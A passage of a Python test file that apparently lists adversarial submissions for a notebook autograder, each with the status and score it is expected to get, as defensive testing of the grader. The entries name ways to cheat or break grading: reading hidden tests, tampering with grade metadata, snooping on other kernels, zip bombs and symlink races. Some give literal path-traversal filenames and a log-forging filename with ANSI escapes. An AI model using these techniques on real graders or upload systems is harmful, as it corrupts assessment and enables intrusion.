        "reads_solutions",
        "code that looks for the solutions and hidden tests by relative and absolute paths",
        lambda: notebook({NAIVE: READS_SOLUTIONS}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
        needs_isolation=True,
    ),
    Kind(
        "writes_course_gradebook",
        "a wrong answer that writes to the class's gradebook by its absolute path",
        lambda: notebook({NAIVE: WRITES_COURSE_GRADEBOOK}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
        needs_isolation=True,
    ),
    Kind(
        "nbgrader_env",
        "code that is right only when NBGRADER_EXECUTION is set",
        lambda: notebook({NAIVE: GRADED_ONLY}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "lms_dotdot",
        "an LMS file named ../../mallory_01.ipynb",
        None,
        NOT_COLLECTED,
        None,
        uploads=_uploads(("../../mallory_01.ipynb", notebook, 0)),
    ),
    Kind(
        "lms_long_name",
        "an LMS file whose student id is 300 characters long",
        None,
        NOT_COLLECTED,
        None,
        uploads=_uploads(("x" * 300 + "_01.ipynb", notebook, 0)),
    ),
    Kind(
        "lms_two_versions",
        "two LMS files from one student (stubs first, full answers later)",
        None,
        status.GRADED,
        FULL,
        student="twice",
        uploads=_uploads(("twice_final.ipynb", notebook, 30), ("twice_draft.ipynb", _stub, 10)),
    ),
    # one student stops the whole class
    Kind(
        "long_expression",
        "a plain cell of one expression of 200,000 terms (`x = 1+1+...`), answers right",
        lambda: notebook(edit=_plain_cell(LONG_EXPRESSION)),
        status.SUSPICIOUS,
        FULL,
    ),
    Kind(
        "lms_nbgrader_list",
        "an LMS file whose `metadata.nbgrader` is a list on one plain cell, answers right",
        None,
        status.TAMPERED,
        FULL,
        student="listy",
        uploads=_uploads(("listy_01.ipynb", lambda: _json_of(_list_metadata), 0)),
    ),
    Kind(
        "lms_deep_json",
        "an LMS file whose JSON nests 100,000 levels deep",
        None,
        NOT_COLLECTED,
        None,
        student="deep",
        uploads=_uploads(("deep_01.ipynb", _deep_json, 0)),
    ),
    Kind(
        "lms_bad_crc",
        "an LMS zip entry with a bad CRC",
        None,
        NOT_COLLECTED,
        None,
        student="crc",
        uploads=_uploads(("crc_01.ipynb", notebook, 0, "bad crc")),
    ),
    # collect trusts what it reads
    Kind(
        "lms_zip_bomb",
        "an LMS zip entry of 1 GB of zeros (1 MB compressed)",
        None,
        NOT_COLLECTED,
        None,
        student="bomb",
        own_zip=True,
        uploads=_uploads(("bomb_01.ipynb", lambda: Zeros(2**30), 0)),
    ),
    Kind(
        "lms_absolute",
        "an LMS file named /tmp/eve_01.ipynb (not a student called tmp)",
        None,
        NOT_COLLECTED,
        None,
        student="tmp",
        listed_as="tmp/eve_01.ipynb",
        uploads=_uploads(("/tmp/eve_01.ipynb", notebook, 0)),
    ),
    Kind(
        "lms_control_chars",
        "an LMS file whose name holds a newline, a forged log line and an ANSI escape",
        None,
        NOT_COLLECTED,
        None,
        student="forger",
        listed_as="forger_x",
        uploads=_uploads(
            ("forger_x\n  mallory / 01_naive_division <- mallory_01.ipynb\x1b[2K\x1b[1A.ipynb", notebook, 0)
        ),
    ),
    # kernels share the machine's network
    Kind(
        "snoops_iopub",
        "a wrong answer that listens to every kernel's IOPub port on 127.0.0.1 for a correct one",
        lambda: notebook({NAIVE: SNOOPS_IOPUB}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
        unsafe_for_plain="it connects to every port of the machine",
    ),
    Kind(
        "asks_service",
        "a graded function that asks a service on 127.0.0.1 for the reference code",
        lambda: notebook({NAIVE: ASKS_SERVICE}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
        unsafe_for_plain="it reaches a service of the machine",
    ),
    # the bridge between the test cells and the kernel
    Kind(
        "garbles_bridge",
        "a wrong answer that writes an endless answer on the grading bridge's socket",
        lambda: notebook({NAIVE: GARBLES_BRIDGE}),
        status.SUSPICIOUS,
        DISTRIBUTION_ONLY,
    ),
    # limits that a process tree walks around
    Kind(
        "shared_mapping",
        "a 2.5 GB shared anonymous mapping, touched page by page",
        lambda: notebook({"is_distribution": SHARED_MAPPING}),
        status.MEMORY,
        NORMALIZE_ONLY,
        unsafe_for_plain="no memory limit",
    ),
    Kind(
        "forked_children",
        "six forked children of 100 MB each (600 MB together)",
        lambda: notebook({"is_distribution": FORKED_CHILDREN}),
        status.MEMORY,
        NORMALIZE_ONLY,
        unsafe_for_plain="no memory limit",
    ),
    Kind(
        "sysv_segment",
        "a 256 MB System V shared memory segment, never removed, answers right",
        lambda: notebook({NAIVE: reference()[NAIVE] + SYSV_SEGMENT.replace("SHM_KEY", str(SHM_KEY))}),
        status.SUSPICIOUS,
        FULL,
        unsafe_for_plain="the segment outlives the kernel",
    ),
    Kind(
        "setsid_survivor",
        "a double-forked `setsid` child left running, answers right",
        lambda: notebook({NAIVE: reference()[NAIVE] + SETSID_SURVIVOR.replace("SURVIVOR", SURVIVOR)}),
        status.GRADED,
        FULL,
        unsafe_for_plain="the process outlives the kernel",
    ),
    # slow or mute kernels cost everything
    Kind(
        "ignores_sigint",
        "a graded function that swallows every interrupt and loops",
        lambda: notebook({NAIVE: _timed(reference()[NAIVE]), "is_distribution": IGNORES_SIGINT}),
        status.TIMEOUT,
        NORMALIZE_ONLY,
        timed=True,
    ),
    Kind(
        "c_loop",
        "a cell of C code that never checks for signals (`any(itertools.repeat(0))`)",
        lambda: notebook({NAIVE: _timed(reference()[NAIVE]), "is_distribution": C_LOOP}),
        status.TIMEOUT,
        NORMALIZE_ONLY,
        timed=True,
    ),
    Kind(
        "execs_shell",
        "a kernel that execs a shell ignoring INT and TERM",
        lambda: notebook(
            {NAIVE: _timed(reference()[NAIVE]), "is_distribution": EXECS_SHELL.replace("MUTE_SHELL", MUTE_SHELL)}
        ),
        status.TIMEOUT,
        NORMALIZE_ONLY,
        timed=True,
    ),
    Kind(
        "stops_itself",
        "a kernel that stops itself (SIGSTOP; the first process of its own PID namespace cannot)",
        lambda: notebook({NAIVE: _timed(reference()[NAIVE]), "is_distribution": STOPS_ITSELF}),
        status.GRADED,
        NORMALIZE_ONLY,
        timed=True,
        needs_isolation=True,
    ),
    # edited metadata zeroes real work
    Kind(
        "fake_grade_cell",
        "an extra grade cell of 100 points, answers right",
        lambda: notebook(edit=_fake_grade_cell),
        status.TAMPERED,
        FULL,
    ),
    Kind(
        "markdown_grade",
        "a markdown cell given grade metadata (10 points), answers right",
        lambda: notebook(edit=_markdown_grade),
        status.TAMPERED,
        FULL,
    ),
    Kind(
        "schema_version",
        "schema_version 4 on one test cell, answers right",
        lambda: notebook(edit=_set_meta("test_naive_normalize_rows", schema_version=4)),
        status.TAMPERED,
        FULL,
    ),
    Kind(
        "hidden_to_solution",
        "a hidden test cell flipped to a solution cell, answers right",
        lambda: notebook(edit=_set_meta("test_naive_normalize_rows", solution=True)),
        status.TAMPERED,
        FULL,
    ),
    Kind(
        "points_changed",
        "a test's points changed from 2 to 20, answers right",
        lambda: notebook(edit=_set_meta("test_naive_normalize_public", points=20)),
        status.TAMPERED,
        FULL,
    ),
    # sizes nobody bounds
    Kind(
        "returns_8mb_string",
        "a graded function returning an 8 MB string (the figure cell draws it in C)",
        lambda: notebook({NAIVE: _timed(RETURNS_8MB)}),
        status.TIMEOUT,
        DISTRIBUTION_ONLY,
        timed=True,
    ),
    Kind(
        "exception_name_4mb",
        "a graded function raising an exception whose class name is 4 MB",
        lambda: notebook({NAIVE: EXCEPTION_NAME_4MB}),
        status.GRADED,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "forged_mistake",
        'an error message holding a forged "likely mistake:" line',
        lambda: notebook({NAIVE: FORGED_MISTAKE}),
        status.GRADED,
        DISTRIBUTION_ONLY,
    ),
    # issue 40, seams 1 and 7: one student stops the whole class; forged lines in grade's output
    Kind(
        "module_exits",
        f"a graded function bound to a module named {EXITS_ON_IMPORT} (importing it runs f2py, which exits)",
        lambda: notebook({NAIVE: MODULE_EXITS}),
        status.GRADED,
        DISTRIBUTION_ONLY,
    ),
    Kind(
        "forged_file_names",
        "files beside it named with a newline and a forged log line, ANSI escapes, a bidi override; answers right",
        notebook,
        status.SUSPICIOUS,
        FULL,
        beside=FORGED_NAMES,
    ),
    # issue 40, seams 2 and 4: links planted for root to follow, the machine's terminals
    Kind(
        "races_links",
        "a process swapping its kernel's channel files and the bridge's socket, once bound, for links to a course file",
        lambda: notebook({NAIVE: RACES_LINKS + "\n\n" + reference()[NAIVE]}),
        status.GRADED,
        FULL,
        needs_isolation=True,
        unsafe_for_plain="it plants links in the folder of its connection file, Jupyter's runtime folder",
    ),
    Kind(
        "holds_terminals",
        "a kernel that opens as many terminals (ptys) as it can and holds them while its tests run",
        lambda: notebook({NAIVE: HOLDS_TERMINALS + "\n\n" + reference()[NAIVE]}),
        status.GRADED,
        FULL,
        needs_isolation=True,
        unsafe_for_plain="it holds 64 of the machine's terminals",
    ),
    # budgets per notebook: time, the grader's own reading, and what that reading is
    Kind(
        "just_under_the_limit",
        f"{SLEEPY_CELLS} cells after naive_normalize's tests, each sleeping just under the cell limit",
        # the notebook's limit ends it among them, whatever the machine's load: is_distribution's tests are not run
        lambda: notebook({NAIVE: _timed(reference()[NAIVE])}, edit=sleepy_cells(SLEEPY_CELLS, SLEEP)),
        status.TIMEOUT,
        NORMALIZE_ONLY,
    ),
    Kind(
        "shell_lines",
        "a cell of 8,000 shell-escape lines (55 kB) after the tests, answers right",
        # too large for the scan, so flagged; the kernel's IPython takes longer than the cell limit to read it
        lambda: notebook(edit=last_cell(SHELL_LINES)),
        f"{status.SUSPICIOUS}, {status.TIMEOUT}",
        FULL,
    ),
    Kind(
        "chr_names",
        "a wrong answer after patching np.allclose through names built with chr() (unseen by the scan)",
        lambda: notebook({NAIVE: CHR_NAMES}),
        status.GRADED,
        DISTRIBUTION_ONLY,
    ),
    # issue 40, seam 8: feedback hands over the hidden tests' inputs and expected values
    Kind(
        "lookup_table",
        "a lookup table of the hidden tests' inputs and answers (as feedback showed them), a wrong formula otherwise",
        # the hand-picked inputs pass (why pages do not show them before the due date); the generated ones are drawn
        # for this submission alone, so the table misses them: test_naive_normalize_rows's point is lost
        lambda: notebook({NAIVE: lookup_table()}),
        status.GRADED,
        FULL - 1,
    ),
    # issue 40, seam 3: scripts for the pages an instructor opens
    Kind(
        "scripts_everywhere",
        "a notebook whose outputs and markdown carry scripts (raw HTML, SVG, iframe, javascript: links), answers right",
        scripts_everywhere,
        status.GRADED,
        FULL,
    ),
]
SIZES = ("returns_8mb_string", "exception_name_4mb", "forged_mistake")


def render(outcomes: dict[str, tuple[str, float | None]]) -> str:
    """The README table: each kind, the status and score it got (of FULL)."""
    rows = ["| submission | status | score |", "|---|---|---|"]
    for kind in KINDS:
        got_status, got_score = outcomes[kind.student_id]
        score = "-" if got_score is None else f"{got_score:g} / {FULL:g}"
        rows.append(f"| {kind.what} | {got_status} | {score} |")
    return "\n".join(rows)
